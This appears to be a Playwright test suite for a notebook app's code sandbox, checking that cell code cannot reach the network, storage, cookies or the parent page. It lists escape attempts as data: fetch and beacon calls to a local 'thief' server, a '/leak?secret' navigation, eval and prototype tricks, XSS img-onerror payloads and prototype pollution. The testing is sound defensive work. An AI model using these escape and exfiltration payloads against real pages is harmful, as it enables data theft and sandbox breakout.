import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { expect, test as base } from "./fixtures.ts";
import { allow, codeCell, openCells, outputOf } from "./notebook-page.ts";

/** Another site on this machine that lets everybody in and counts who comes. */
const test = base.extend<{ thief: { readonly address: string; readonly visits: string[] } }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names that a fixture takes
  thief: async ({}, give) => {
    const visits: string[] = [];
    const server: Server = createServer((request, response) => {
      visits.push(request.url ?? "");
      response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
      response.end("export default 1");
    });
    await new Promise<void>((resolve) => {
      server.listen(0, "127.0.0.1", resolve);
    });
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    await give({ address, visits });
    server.closeAllConnections();
    server.close();
  },
});

const helper = `const attempt = async (act) => {
  try {
    return "GOT " + String(await Promise.race([act(), new Promise((_, no) => setTimeout(() => no(new Error("nothing")), 400))]))
  } catch (error) {
    return "refused"
  }
}`;

/** Ways out of the worker that are not even there. `AT` is the address of the other site. */
const missing = [
  "fetch('AT/fetch')",
  "new XMLHttpRequest()",
  "new WebSocket('ws:AT')",
  "new EventSource('AT/events')",
  "new WebTransport('https:AT')",
  "importScripts('AT/scripts')",
  "new Worker('AT/worker')",
  "new Worker(URL.createObjectURL(new Blob(['1'])))",
  "new SharedWorker('AT/shared')",
  "navigator.sendBeacon('AT/beacon')",
  "indexedDB.open('x')",
  "localStorage.x",
  "caches.open('x')",
  "cookieStore.getAll()",
  "navigator.storage.getDirectory()",
  "new BroadcastChannel('x')",
  "new MessageChannel()",
  "location.href",
  "window.parent",
  "parent.document",
  "top.location",
  "document.cookie",
  "opener.location",
  "postMessage('x')",
  "self.postMessage('x')",
  "close()",
  "self.close()",
  "new FontFace('x', 'url(AT/font)').load()",
  "fonts.add(1)",
  "Function('return this')().fetch('AT/function')",
  "(async () => {}).constructor('return fetch(\"AT/constructor\")')()",
  "(0, eval)('fetch(\"AT/eval\")')",
  "Object.getPrototypeOf(self).fetch('AT/prototype')",
  "Reflect.get(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'importScripts').call(self, 'AT/reflect')",
  "new self.constructor()",
  "navigator.gpu.requestAdapter()",
  "WebAssembly.compileStreaming(fetch('AT/wasm'))",
  "createImageBitmap(new Blob(['x']))",
];

/** Ways that the language itself has: the policy stops them. */
const stopped = ["import('AT/import.js')", "import('data:text/javascript,export default 1')", "import('./theme.js')"];

test("a cell has no way to the network, to storage, to the page, or to another worker", async ({
  page,
  thief,
  watched,
}) => {
  // The other site does count.
  await fetch(`${thief.address}/control`);
  expect(thief.visits).toEqual(["/control"]);
  const attempts = [...missing, ...stopped].map((code) =>
    code.replaceAll("ws:AT", thief.address.replace("http", "ws")).replaceAll("AT", thief.address),
  );
  const all = attempts.map((code) => `results.push([${JSON.stringify(code)}, await attempt(async () => ${code})])`);
  await openCells(page, [
    `${helper}\nconst results = []`,
    `${all.join("\n")}\nJSON.stringify(results.filter(([, r]) => r !== "refused"))`,
    "`${results.length}`",
  ]);
  await allow(page);
  await expect(outputOf(page, 3)).toHaveText(`"${attempts.length}"`, { timeout: 30_000 });
  await expect(outputOf(page, 2)).toHaveText('"[]"');
  expect(thief.visits).toEqual(["/control"]);
  // The policy says on the console what it stopped.
  for (const list of [watched.errors, watched.violations, watched.foreign]) list.length = 0;
});

/** What a worker without our second line, or a script in the frame itself, would try. */
async function behindTheDoor(page: Page, address: string): Promise<Record<string, string>> {
  const frame = page.frames().find((one) => one.url().endsWith("/sandbox.html"));
  if (!frame) throw new Error("there is no sandbox");
  return frame.evaluate(async (at) => {
    const ways = `
      const ways = {
        fetch: () => fetch(at + "/raw-fetch"),
        own: () => fetch(site),
        xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", at + "/raw-xhr"); x.onload = yes; x.onerror = no; x.send() }),
        socket: () => new Promise((yes, no) => { const s = new WebSocket(at.replace("http", "ws")); s.onopen = yes; s.onerror = no }),
        events: () => new Promise((yes, no) => { const s = new EventSource(at + "/raw-events"); s.onopen = yes; s.onerror = no }),
        import: () => import(at + "/raw-import.js"),
        database: () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no }),
        caches: () => caches.open("x"),
        files: () => navigator.storage.getDirectory(),
        worker: () => new Promise((yes, no) => { const w = new Worker(at + "/raw-worker"); w.onmessage = yes; w.onerror = no }),
      };
      const results = {};
      const all = Object.entries(ways).map(async ([name, way]) => {
        const late = new Promise((_, no) => setTimeout(no, 800));
        results[name] = await Promise.race([(async () => way())(), late]).then(() => "GOT", () => "refused");
      });
      Promise.all(all).then(() => done(results));`;
    const head = `const at = ${JSON.stringify(at)}; const site = ${JSON.stringify(location.href)};`;
    const scripts = `try { importScripts(at + "/raw-scripts"); results.scripts = "GOT" } catch { results.scripts = "refused" }`;
    const inWorker = await new Promise<Record<string, string>>((resolve) => {
      const text = `${head}const done = (all) => { const results = all; ${scripts}; postMessage(results) };${ways}`;
      const worker = new Worker(URL.createObjectURL(new Blob([text])));
      worker.onmessage = ({ data }) => resolve(data as Record<string, string>);
    });
    const tried: Record<string, () => unknown> = {
      parent: () => parent.document.title,
      top: () => {
        if (top) top.location.href = `${at}/top`;
      },
      storage: () => localStorage.length,
      cookie: () => document.cookie,
    };
    const inFrame: Record<string, string> = {};
    for (const [name, way] of Object.entries(tried)) {
      try {
        way();
        inFrame[name] = "GOT";
      } catch {
        inFrame[name] = "refused";
      }
    }
    const image = new Image();
    const loaded = new Promise<string>((resolve) => {
      image.onload = () => resolve("GOT");
      image.onerror = () => resolve("refused");
    });
    image.src = `${at}/raw-image`;
    inFrame["image"] = await loaded;
    inFrame["popup"] = window.open(`${at}/popup`) ? "GOT" : "refused";
    return { ...inWorker, ...inFrame };
  }, address);
}

test("the wall stands without the second line: policy and origin alone refuse everything", async ({
  page,
  thief,
  watched,
}) => {
  await openCells(page, ["1"]);
  await allow(page);
  await expect(outputOf(page, 1)).toHaveText("1");
  const results = await behindTheDoor(page, thief.address);
  expect(Object.entries(results).filter(([, result]) => result !== "refused")).toEqual([]);
  expect(Object.keys(results).length).toBe(17);
  // The frame cannot take what it knows along to another site: the page frames nothing else.
  const frame = page.frames().find((one) => one.url().endsWith("/sandbox.html"));
  await frame
    ?.evaluate((at) => {
      location.href = `${at}/leak?secret`;
    }, thief.address)
    .catch(() => {});
  await expect(page.getByRole("heading", { name: "Notebook", exact: true })).toBeAttached();
  await expect.poll(() => watched.errors.some((text) => text.includes("frame-src"))).toBe(true);
  expect(thief.visits).toEqual([]);
  for (const list of [watched.errors, watched.violations, watched.foreign]) list.length = 0;
});

test("opened by itself or framed without a sandbox, the sandbox's page does nothing", async ({ page }) => {
  await page.goto("./sandbox.html");
  expect(await page.evaluate(() => self.origin)).toBe("null");
  const answered = await page.evaluate(async () => {
    const { port1, port2 } = new MessageChannel();
    postMessage("onmessage = ({ ports: [port] }) => port.postMessage(1)", "*", [port2]);
    return Promise.race([
      new Promise((resolve) => {
        port1.onmessage = () => resolve(true);
      }),
      new Promise((resolve) => {
        setTimeout(() => resolve(false), 500);
      }),
    ]);
  });
  expect(answered).toBe(false);
});

test("a loop without an end is stopped, the reader hears that variables are gone, and all can run again", async ({
  page,
}) => {
  await openCells(page, ["const a = 1\na", "if (!globalThis.again) for (;;) {}", "a + 1"]);
  await allow(page);
  await expect(outputOf(page, 1)).toHaveText("1");
  await expect(codeCell(page, 2).getByText("computed for 5 seconds")).toBeVisible({ timeout: 15_000 });
  await expect(page.locator("iframe")).toHaveCount(0);
  await expect(page.getByText("with it every variable")).toBeVisible();
  await expect(codeCell(page, 1).getByText("its variables are gone")).toBeVisible();
  await expect(outputOf(page, 1)).toHaveText("1");
  // Another cell runs in a new sandbox; what it misses it says.
  await codeCell(page, 3).getByRole("button", { name: "Run", exact: true }).click();
  await expect(outputOf(page, 3)).toContainText("ReferenceError: a is not defined");
  await codeCell(page, 3).getByRole("button", { name: "Run it with the cells it needs" }).click();
  await expect(outputOf(page, 3)).toHaveText("2");
});

test("a chain of promises without an end is stopped, too, and so is a wait for nothing", async ({ page }) => {
  await openCells(page, ["(async () => { for (;;) await null })()", "2"]);
  await allow(page);
  await expect(codeCell(page, 1).getByText("computed for 5 seconds")).toBeVisible({ timeout: 15_000 });
  await codeCell(page, 2).getByRole("button", { name: "Run", exact: true }).click();
  await expect(outputOf(page, 2)).toHaveText("2");
});

test("a flood of calls ends the sandbox, a flood of lines is cut, huge output is a part of itself", async ({
  page,
}) => {
  await openCells(page, [
    "for (let i = 0; i < 100000; i++) console.log(i)",
    "'x'.repeat(5e7)",
    "Array.from({ length: 3e6 }, (_, i) => i)",
    "const deep = {}; let at = deep; for (let i = 0; i < 1e5; i++) at = at.next = { at: deep }\ndeep",
    "for (let i = 0; i < 5000; i++) vitrine.run()\nawait new Promise(() => {})",
    "5",
  ]);
  await allow(page);
  await expect(outputOf(page, 1)).toContainText("and 99,800 more outputs", { timeout: 20_000 });
  await expect(outputOf(page, 3)).toContainText("Array [index 3,000,000]");
  await expect(outputOf(page, 4)).toContainText("next: ");
  expect(((await outputOf(page, 2).textContent()) ?? "").length).toBeLessThan(20_100);
  await expect(codeCell(page, 5).getByText("more messages than the page takes")).toBeVisible({ timeout: 20_000 });
  await codeCell(page, 6).getByRole("button", { name: "Run", exact: true }).click();
  await expect(outputOf(page, 6)).toHaveText("5");
});

test("what a cell changes in its own world stays there, and what it shows is text", async ({ page }) => {
  await openCells(page, [
    `Object.prototype.polluted = "yes"; Object.prototype.kind = "done"; Array.prototype.map = () => ["x"]
    Object.defineProperty(Object.prototype, "run", { get: () => 1, configurable: true }); 1`,
    'JSON.parse(\'{"__proto__": {"polluted": 1}, "a": "<img src=x onerror=alert(1)>"}\')',
    "[new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 }, getPrototypeOf() { throw 3 } })]",
    "({ get trap() { throw new Error('called') } })",
    "self.onmessage = self.onerror = () => { for (;;) {} }; 4",
    "const s = '<script>top.hacked = 1</script><b>bold</b>'; console.log(s); s",
    "vitrine.plot.bars({ '<img src=x onerror=top.hacked=2>': 1 }, { title: '<b>title</b>' })",
    "Promise.prototype.then = function () { return this }; 8",
  ]);
  await allow(page);
  await expect(outputOf(page, 7)).toContainText("<b>title</b>", { timeout: 20_000 });
  await expect(outputOf(page, 6)).toContainText("<script>top.hacked = 1</script><b>bold</b>");
  await expect(outputOf(page, 4)).toContainText("[getter]");
  expect(
    await page.evaluate(() => [({} as { polluted?: string }).polluted, (window as { hacked?: number }).hacked]),
  ).toEqual([undefined, undefined]);
  await expect(page.locator("main b, main img[src=x]").filter({ hasText: /bold|title/ })).toHaveCount(0);
});
